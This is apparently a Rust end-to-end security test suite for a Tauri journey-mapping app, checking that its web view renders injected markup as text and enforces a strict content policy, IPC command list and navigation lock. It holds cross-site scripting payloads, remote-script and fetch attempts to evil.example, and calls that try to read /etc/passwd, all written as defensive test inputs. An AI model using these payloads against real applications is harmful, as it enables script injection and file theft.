//! The web view's defences, end to end in the real app (issue 14, part 5): markup and script
//! in every text a user or a file can set is shown as text and runs nothing; the content
//! policy allows no inline script, no eval and no remote origin; a command outside the
//! capability list is refused; the page never navigates away from the app.
//!
//! Each payload would set `window.__pwned` (to the name of its field) if it ran, so a test
//! that reads the flag as unset after the page showed every field proves none ran.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use common::*;
use serde_json::{json, Value};

/// Markup and script that would set `window.__pwned = field` in any HTML context.
fn payload(field: &str) -> String {
    format!(
        "<img src=x onerror=\"window.__pwned='{field}'\"><script>window.__pwned='{field}'</script>\
         <a href=\"javascript:window.__pwned='{field}'\">{field} https://evil.example/</a>"
    )
}

/// The same for a file name, which may hold no slash.
fn file_payload() -> String {
    "<img src=x onerror=\"window.__pwned='file'\"><svg onload=\"window.__pwned='file'\">".into()
}

/// A document named by a payload whose sample journey has a payload in its title, goal, first
/// phase and lane, a card's text and evidence note, and its persona's name; the settings in
/// `data` point the app at it. Returns the document and the card's id.
fn hostile_document(data: &Path) -> Res<(PathBuf, String)> {
    let doc = data.join(format!("{}.klantreis", file_payload()));
    let id = run(Command::new(cli())
        .arg("sample")
        .arg(&doc)
        .args(["--lang", "en"]))?
    .trim()
    .to_string();
    let j: Value = serde_json::from_str(&run(Command::new(cli())
        .arg("export-json")
        .arg(&doc)
        .args(["--journey", &id, "--no-images"]))?)?;
    let journey = &j["journey"];
    // A card in the first phase, in view when the journey opens.
    let card = journey["cards"]
        .as_array()
        .and_then(|cs| cs.iter().find(|c| c["text"] == "Instagram ad"))
        .ok_or("the sample's first card")?;
    let card_id = card["id"].as_str().ok_or("card id")?.to_string();
    let mut persona = j["personas"][0].clone();
    persona["name"] = json!(payload("persona"));
    let edits = json!([
        {"op": "update_journey", "id": id, "patch": {"title": payload("title"), "goal": payload("goal")}},
        {"op": "update_persona", "persona": persona},
        {"op": "update_phase", "id": journey["phases"][0]["id"], "patch": {"name": payload("phase")}},
        {"op": "update_lane", "id": journey["lanes"][0]["id"], "patch": {"title": payload("lane")}},
        {"op": "update_card", "id": card_id, "patch": {
            "text": payload("card"),
            "evidence": [{"source": "interview", "note": payload("evidence")}],
        }},
    ]);
    apply_json(&doc, &edits)?;
    std::fs::write(
        data.join("settings.json"),
        json!({"language": "en", "last_document": doc}).to_string(),
    )?;
    Ok((doc, card_id))
}

/// What would show that a payload ran or became markup: the flag, and elements only a
/// parsed payload makes.
async fn nothing_ran(app: &App, where_: &str) -> Res {
    let found: Value = app
        .d()
        .execute(
            "return {
               pwned: window.__pwned ?? null,
               imgs: document.querySelectorAll('img[src=x], img[src$=\"/x\"]').length,
               js_links: document.querySelectorAll('a[href^=\"javascript:\"]').length,
               evil_links: document.querySelectorAll('a[href*=\"evil.example\"]').length,
               scripts: [...document.scripts].filter(s => s.textContent.includes('__pwned')).length,
             };",
            Vec::new(),
        )
        .await?
        .json()
        .clone();
    assert_eq!(
        found,
        json!({"pwned": null, "imgs": 0, "js_links": 0, "evil_links": 0, "scripts": 0}),
        "{where_}: a payload ran or became markup"
    );
    Ok(())
}

/// The values of the inputs and text areas matching `css`.
async fn values(app: &App, css: &str) -> Res<Vec<String>> {
    let ret = app
        .d()
        .execute(
            "return [...document.querySelectorAll(arguments[0])].map(e => e.value);",
            vec![json!(css)],
        )
        .await?;
    Ok(ret.convert()?)
}

async fn labels(app: &App, css: &str) -> Res<Vec<String>> {
    let ret = app
        .d()
        .execute(
            "return [...document.querySelectorAll(arguments[0])].map(e => e.getAttribute('aria-label') ?? '');",
            vec![json!(css)],
        )
        .await?;
    Ok(ret.convert()?)
}

fn has(list: &[String], want: &str) -> bool {
    list.iter().any(|v| v.contains(want))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn markup_in_every_text_is_shown_as_text_and_runs_nothing() -> Res {
    retry_on_hang(
        "markup_in_every_text_is_shown_as_text_and_runs_nothing",
        markup_in_every_text_is_shown_as_text_and_runs_nothing_once,
    )
    .await
}

/// One run of [`markup_in_every_text_is_shown_as_text_and_runs_nothing`].
async fn markup_in_every_text_is_shown_as_text_and_runs_nothing_once() -> Res {
    let data = tempfile::tempdir()?;
    let (_doc, card_id) = hostile_document(data.path())?;
    let app = App::start(data.path(), "en_GB.UTF-8").await?;

    // Home: the journey's title, its persona and the document's (file) name, as text.
    app.wait_titles(&[&payload("title")]).await?;
    assert_eq!(
        app.text_of("[data-testid='doc-name']").await?,
        file_payload()
    );
    let persona = app.text_of("[data-testid='journey-persona']").await?;
    assert!(
        persona.contains(&payload("persona")),
        "persona shown: {persona}"
    );
    nothing_ran(&app, "home").await?;
    app.shot("defences-01-home.png").await?;

    // The journey: title, goal, persona, phase and lane in the panel and on the canvas.
    let card = app.card(&payload("title")).await?;
    card.find(thirtyfour::By::Css("button.open"))
        .await?
        .click()
        .await?;
    app.wait_for("[data-testid='canvas-card']").await?;
    assert_eq!(
        app.text_of("[data-testid='view-title']").await?,
        payload("title")
    );
    assert_eq!(
        values(&app, "[data-testid='journey-goal']").await?,
        [payload("goal")]
    );
    assert!(has(
        &values(&app, "[data-testid='journey-panel'] input").await?,
        &payload("persona")
    ));
    assert!(has(
        &values(&app, "[data-testid='journey-panel'] input").await?,
        &payload("phase")
    ));
    assert!(has(
        &labels(&app, "[data-testid='canvas-phase']").await?,
        &payload("phase")
    ));
    assert!(has(
        &labels(&app, "[data-testid='canvas-lane']").await?,
        &payload("lane")
    ));
    assert!(has(
        &labels(&app, "[data-testid='canvas-card']").await?,
        &payload("card")
    ));
    nothing_ran(&app, "journey").await?;

    // The card's own panel: its text and the evidence note.
    let hook = format!("[data-testid='canvas-card'][data-card='{card_id}']");
    app.wait_for(&hook).await?;
    let (x, y): (i64, i64) = app
        .d()
        .execute(
            "const r = document.querySelector(arguments[0]).getBoundingClientRect();\
             return [Math.round(r.x + r.width / 2), Math.round(r.y + r.height / 2)];",
            vec![json!(hook)],
        )
        .await?
        .convert()?;
    app.d()
        .action_chain()
        .move_to(x, y)
        .click()
        .perform()
        .await?;
    app.wait_for("[data-testid='card-panel']").await?;
    assert_eq!(
        values(&app, "[data-testid='card-text']").await?,
        [payload("card")]
    );
    assert!(has(
        &values(&app, "[data-testid='card-panel'] input").await?,
        &payload("evidence")
    ));
    tokio::time::sleep(Duration::from_millis(300)).await;
    nothing_ran(&app, "card panel").await?;
    app.shot("defences-02-journey.png").await?;
    app.quit().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_content_policy_allows_no_inline_script_no_eval_and_no_remote_origin() -> Res {
    retry_on_hang(
        "the_content_policy_allows_no_inline_script_no_eval_and_no_remote_origin",
        the_content_policy_allows_no_inline_script_no_eval_and_no_remote_origin_once,
    )
    .await
}

/// One run of [`the_content_policy_allows_no_inline_script_no_eval_and_no_remote_origin`].
async fn the_content_policy_allows_no_inline_script_no_eval_and_no_remote_origin_once() -> Res {
    // The policy as configured.
    let conf: Value = serde_json::from_str(&std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../src-tauri/tauri.conf.json"),
    )?)?;
    let csp = &conf["app"]["security"]["csp"];
    assert_eq!(csp["default-src"], "'self'");
    assert_eq!(csp["script-src"], "'self'");
    assert_eq!(csp["object-src"], "'none'");
    for (directive, sources) in csp.as_object().ok_or("csp is an object")? {
        let sources = sources.as_str().ok_or("a string")?;
        for bad in ["'unsafe-inline'", "'unsafe-eval'", "*", "https:", "http:"] {
            assert!(
                !sources.split_whitespace().any(|s| s == bad),
                "{directive} allows {bad}"
            );
        }
        for source in sources.split_whitespace() {
            // Only the app itself, data: images and the IPC bridge.
            assert!(
                source.starts_with('\'')
                    || ["data:", "ipc:", "http://ipc.localhost"].contains(&source),
                "{directive} allows {source}"
            );
        }
    }

    let data = tempfile::tempdir()?;
    let app = App::start(data.path(), "en_GB.UTF-8").await?;
    // The policy in effect, and what it does to each way in.
    let got: Value = app
        .d()
        .execute(
            r#"
            return (async () => {
            const violations = [];
            document.addEventListener('securitypolicyviolation', (e) =>
              violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, policy: e.originalPolicy }));
            const tried = {};
            // Inline script, added as an element.
            const s = document.createElement('script');
            s.textContent = "window.__inline = 1";
            document.body.appendChild(s);
            // An inline event handler.
            const d = document.createElement('div');
            d.setAttribute('onclick', 'window.__handler = 1');
            document.body.appendChild(d);
            d.click();
            // eval, the Function constructor and a string timer.
            try { eval('window.__eval = 1'); tried.eval = 'ran'; } catch (e) { tried.eval = e.name; }
            try { new Function('window.__function = 1')(); tried.fn = 'ran'; } catch (e) { tried.fn = e.name; }
            try { setTimeout('window.__timer = 1', 0); } catch (e) { tried.timer = e.name; }
            // A remote script, image and connection.
            const r = document.createElement('script');
            r.src = 'https://evil.example/x.js';
            document.body.appendChild(r);
            const i = new Image();
            i.src = 'https://evil.example/x.png';
            tried.fetch = await fetch('https://evil.example/').then(() => 'fetched', (e) => e.name);
            await new Promise((ok) => setTimeout(ok, 800));
            return {
              ran: ['__inline', '__handler', '__eval', '__function', '__timer'].filter((k) => k in window),
              tried,
              violations,
            };
            })();
            "#,
            Vec::new(),
        )
        .await?
        .json()
        .clone();
    eprintln!("content policy: {got:#}");
    assert_eq!(got["ran"], json!([]), "something ran: {got:#}");
    assert_eq!(got["tried"]["eval"], "EvalError");
    assert_eq!(got["tried"]["fn"], "EvalError");
    assert_eq!(got["tried"]["fetch"], "TypeError");
    let violations = got["violations"].as_array().ok_or("violations")?;
    for directive in ["script-src", "img-src", "connect-src"] {
        assert!(
            violations.iter().any(|v| v["directive"] == directive),
            "no {directive} violation reported: {got:#}"
        );
    }
    // The effective policy, as the page holds it.
    let policy = violations[0]["policy"].as_str().ok_or("a policy")?;
    let tokens: Vec<&str> = policy
        .split(|c: char| c.is_whitespace() || c == ';')
        .collect();
    assert!(policy.contains("default-src 'self'"), "{policy}");
    assert!(policy.contains("object-src 'none'"), "{policy}");
    for bad in ["'unsafe-inline'", "'unsafe-eval'", "*", "https:", "http:"] {
        assert!(
            !tokens.contains(&bad),
            "the policy in effect allows {bad}: {policy}"
        );
    }
    app.quit().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_command_outside_the_capability_list_is_refused() -> Res {
    retry_on_hang(
        "a_command_outside_the_capability_list_is_refused",
        a_command_outside_the_capability_list_is_refused_once,
    )
    .await
}

/// One run of [`a_command_outside_the_capability_list_is_refused`].
async fn a_command_outside_the_capability_list_is_refused_once() -> Res {
    let data = tempfile::tempdir()?;
    let app = App::start(data.path(), "en_GB.UTF-8").await?;
    let got: Value = app
        .d()
        .execute(
            r#"
            return (async () => {
            const call = (cmd, args) => window.__TAURI_INTERNALS__.invoke(cmd, args ?? {})
              .then(() => 'allowed', (e) => 'refused: ' + String(e));
            return {
              // Granted: the check below is of the list, not of a broken bridge.
              listed: await call('list_templates', { lang: 'en' }),
              // Registered in the app but not granted to the window: the dialog plugin's own
              // commands and emitting events.
              dialog: await call('plugin:dialog|message', { message: 'x' }),
              emit: await call('plugin:event|emit', { event: 'doc-changed', payload: null }),
              // Not registered at all.
              unknown: await call('some_unlisted_command'),
              fs: await call('plugin:fs|read_text_file', { path: '/etc/passwd' }),
              shell: await call('plugin:shell|open', { path: 'https://evil.example/' }),
            };
            })();
            "#,
            Vec::new(),
        )
        .await?
        .json()
        .clone();
    eprintln!("commands: {got:#}");
    assert_eq!(got["listed"], "allowed");
    for refused in ["dialog", "emit", "unknown", "fs", "shell"] {
        let answer = got[refused].as_str().unwrap_or_default();
        assert!(answer.starts_with("refused: "), "{refused}: {answer}");
    }
    app.quit().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn links_never_open_in_the_web_view() -> Res {
    retry_on_hang(
        "links_never_open_in_the_web_view",
        links_never_open_in_the_web_view_once,
    )
    .await
}

/// One run of [`links_never_open_in_the_web_view`].
async fn links_never_open_in_the_web_view_once() -> Res {
    let data = tempfile::tempdir()?;
    let app = App::start(data.path(), "en_GB.UTF-8").await?;
    let start: String = app
        .d()
        .execute("return location.origin;", Vec::new())
        .await?
        .convert()?;
    let tries = [
        "location.href = 'https://evil.example/';",
        "location.assign('file:///etc/passwd');",
        "const a = document.createElement('a'); a.href = 'https://evil.example/a'; document.body.appendChild(a); a.click();",
        "const a = document.createElement('a'); a.href = 'https://evil.example/b'; a.target = '_blank'; document.body.appendChild(a); a.click();",
        "window.__opened = window.open('https://evil.example/c');",
        "const f = document.createElement('form'); f.action = 'https://evil.example/f'; document.body.appendChild(f); f.submit();",
    ];
    for script in tries {
        app.d().execute(script, Vec::new()).await?;
        tokio::time::sleep(Duration::from_millis(700)).await;
        let here: Value = app
            .d()
            .execute(
                "return { origin: location.origin, ready: !!document.querySelector(\"[data-testid='app-ready']\"), opened: window.__opened ?? null };",
                Vec::new(),
            )
            .await?
            .json()
            .clone();
        assert_eq!(here["origin"], start.as_str(), "after {script}: {here}");
        assert_eq!(here["ready"], true, "after {script}: the app is gone");
        assert_eq!(
            here["opened"],
            Value::Null,
            "after {script}: a window opened"
        );
        assert_eq!(
            app.d().windows().await?.len(),
            1,
            "after {script}: a second window"
        );
    }
    app.wait_titles(&["Buying an e-bike at Fietsplezier"])
        .await?;
    app.quit().await
}
